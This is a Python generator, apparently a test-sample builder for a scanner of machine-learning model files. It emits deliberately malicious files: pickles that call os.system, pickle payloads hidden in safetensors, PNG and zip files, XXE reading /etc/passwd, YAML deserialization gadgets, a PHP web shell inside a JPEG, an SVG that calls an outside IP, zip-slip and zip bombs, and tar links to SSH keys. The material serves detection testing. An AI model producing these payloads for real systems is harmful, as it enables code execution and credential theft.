    yield "gguf", "count.gguf", gguf(arch, count=1 << 60)
    yield "gguf", "tensors.gguf", gguf(arch, tensors=1 << 61)
    yield "gguf", "dims.gguf", gguf(arch, tensors=1, tail=struct.pack("<Q", 1) + b"w" + struct.pack("<IQQQQIQ", 4, 1 << 40, 1 << 40, 2, 2, 0, 0))
    yield "gguf", "elf_tail.gguf", gguf(arch, tail=bytes(64) + b"\x7fELF" + bytes(100))
    good = safetensors(rng)
    size = struct.unpack("<Q", good[:8])[0]
    head, data = json.loads(good[8 : 8 + size]), good[8 + size :]
    wrap = lambda h, d=data: struct.pack("<Q", len(h)) + h + d  # noqa: E731
    kind = "safetensors"
    yield kind, "pickle_tail.safetensors", good + pickle.dumps(Call(os.system, SHELL))
    yield kind, "huge_header.safetensors", struct.pack("<Q", 1 << 62) + good[8:]
    yield kind, "overlap.safetensors", wrap(json.dumps({**head, "c": head["w"]}).encode())
    yield kind, "hole.safetensors", wrap(json.dumps({"b": head["b"], "w": {**head["w"], "data_offsets": [16 + 48, 80 + 48]}}).encode(), data[:16] + pickle.dumps(Call(os.system, "id"))[:48].ljust(48, b"\0") + data[16:])
    yield kind, "duplicate.safetensors", wrap(json.dumps(head).encode()[:-1] + b', "w": ' + json.dumps(head["b"]).encode() + b"}")
    yield kind, "is_pickle.safetensors", pickle.dumps(Call(os.system, SHELL), 2)
    kind = "documents"
    yield kind, "xxe.pmml", b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header description="&x;"/><DataDictionary/></PMML>'
    yield kind, "laughs.pmml", b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><PMML version="4.4"><Header description="&c;"/></PMML>'
    yield kind, "apply.yaml", b"model:\n  lr: 0.1\n  init: !!python/object/apply:subprocess.check_output [[id]]\n"
    yield kind, "new.yml", b"a: !!python/object/new:type {args: [z, [], {extend: !!python/name:exec}]}\n"
    yield kind, "hydra.yaml", b"model:\n  _target_: os.system\n  command: echo held-out\n"
    yield kind, "script.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'http://192.0.2.1/\')"><script>alert(1)</script></svg>'
    yield kind, "php.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00<?php system($_GET['c']); ?>\xff\xd9"
    yield kind, "pickle.csv", pickle.dumps(Call(os.system, SHELL))
    yield kind, "pickle.json", pickle.dumps(Call(os.system, SHELL), 0)
    yield kind, "promise.rds", gzip.compress(b"X\n\x00\x00\x00\x03\x00\x04\x03\x00\x00\x03\x05\x00\x00\x00\x00\x05UTF-8\x00\x00\x00\x05\x00\x00\x00\xfe\x00\x00\x00\xfb\x00\x00\x00\x06\x00\x00\x00\x01\x00\x04\x00\x09\x00\x00\x00\x06system")
    schema = {"__class__": "OperatorFuncNode", "__module__": "operator", "__loader__": "OperatorFuncNode", "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": []}}
    yield kind, "operator.skops", zipped({"schema.json": json.dumps({**schema, "protocol": 2, "_skops_version": "0.12"}).encode()})
    yield kind, "type.skops", zipped({"schema.json": json.dumps({"__class__": "system", "__module__": "os", "__loader__": "TypeNode", "protocol": 2, "_skops_version": "0.12"}).encode()})


def archives(rng: Rng) -> Iterator[tuple[str, str, bytes]]:
    import py7zr

    kind, pkl = "archives", pickle.dumps(Call(os.system, SHELL))
    bad = torched({"w": Call(exec, STAGED)})

    def seven(files: dict[str, bytes], **how: Any) -> bytes:
        out = io.BytesIO()
        with py7zr.SevenZipFile(out, "w", **how) as z:
            for name, data in files.items():
                z.writestr(data, name)
        return out.getvalue()

    yield kind, "nullifai.pth", seven({"model/data.pkl": pkl, "model/version": b"3\n"})
    yield kind, "model.7z", seven({"weights.pt": bad})
    yield kind, "locked.7z", seven({"weights.pt": bad}, password="x")
    yield kind, "model.zip", zipped({"readme.txt": b"hello", "m/weights.pkl": pkl}, zipfile.ZIP_DEFLATED)
    yield kind, "slip.zip", zipped({"../../../tmp/x.py": b"print(1)"})
    nest = zipped({"m.pkl": pkl})
    for depth in range(6):
        nest = zipped({f"l{depth}.zip": nest}) if depth % 2 else gzip.compress(tarred({f"l{depth}.zip": nest}))
    yield kind, "nested.zip", nest
    yield kind, "bomb.zip", zipped({"w.bin": bytes(64 << 20)}, zipfile.ZIP_DEFLATED)
    yield kind, "model.tar.gz", tarred({"model/xgb.pkl": pkl}, "w:gz")
    yield kind, "model.tar.xz", tarred({"a.json": b"{}", "b.pkl": pkl}, "w:xz")
    yield kind, "link.tar", tarred({"model.json": b"{}"}, links=(("weights", "/etc/passwd", tarfile.SYMTYPE),))
    yield kind, "hardlink.tar", tarred({}, links=(("weights", "../../.ssh/id_rsa", tarfile.LNKTYPE),))
    yield kind, "device.tar", tarred({"a.txt": b"x"}, links=(("dev", "", tarfile.CHRTYPE),))
    yield kind, "model.nemo", tarred({"./model_config.yaml": b"target: os.system\nargs: [id]\n", "./model_weights.ckpt": bad})
    yield kind, "model.mar", zipped({"MAR-INF/MANIFEST.json": j(model={"handler": "h.py"}), "h.py": MODELING.encode()})
    yield kind, "evil-1.0-py3-none-any.whl", zipped({"evil/__init__.py": STAGED.encode(), "evil-1.0.dist-info/METADATA": b"Name: evil\nVersion: 1.0\n"})
    yield kind, "pickle_then_zip.pkl", pkl + zipped({"a.txt": b"hello"})
    yield kind, "zip_comment.zip", (lambda z: z[:-2] + struct.pack("<H", len(pkl)) + pkl)(zipped({"a.json": b"{}"}))
    image = __import__("PIL.Image").Image.new("RGB", (8, 8))
    out = io.BytesIO()
    image.save(out, "PNG")
    yield kind, "png_then_zip.png", out.getvalue() + zipped({"m.pkl": pkl})
    yield kind, "between_members.zip", (lambda z, at: z[:at] + pkl + z[at:])(zipped({"a.txt": b"x"}), 0)


def samples(rng: Rng) -> Iterator[Sample]:
    for part in (calls, structures, tensors, arrays, networks, formats, archives):
        for category, name, data in part(rng):
            yield Sample(category, name, {name.replace("/", "_"): data})
    for category, name, files in folders(rng):
        yield Sample(category, name, files)
